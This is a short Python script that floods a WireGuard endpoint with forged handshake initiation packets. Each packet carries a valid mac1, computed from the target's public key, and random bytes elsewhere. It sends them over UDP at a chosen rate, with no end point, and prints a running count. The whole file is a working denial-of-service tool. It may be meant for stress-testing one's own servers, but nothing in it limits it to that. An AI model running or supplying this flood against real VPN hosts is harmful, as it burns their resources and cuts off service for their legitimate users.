#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
#
# handshake_flood.py - handshake_flood.py ADDRESS PORT KEY RATE: initiations that carry a
# valid mac1 for the node with that public key (base64) and nothing else that is valid,
# until it is ended. Prints the number sent so far, a line a second.
import base64
import hashlib
import os
import socket
import struct
import sys
import time

BURST = 50


def initiation(mac1_key):
    m = struct.pack("<II", 1, 7) + os.urandom(108)
    return m + hashlib.blake2s(m, digest_size=16, key=mac1_key).digest() + bytes(16)


def main():
    host, port, key, rate = sys.argv[1:5]
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, int(port)))
    made = [initiation(mac1_key) for _ in range(200)]
    sent, start, told = 0, time.monotonic(), 0
    while True:
        for _ in range(BURST):
            try:
                s.send(made[sent % len(made)])
            except OSError:
                pass
            sent += 1
        now = time.monotonic() - start
        if now - told >= 1:
            told = now
            print(sent, flush=True)
        time.sleep(max(0, sent / int(rate) - now))


main()
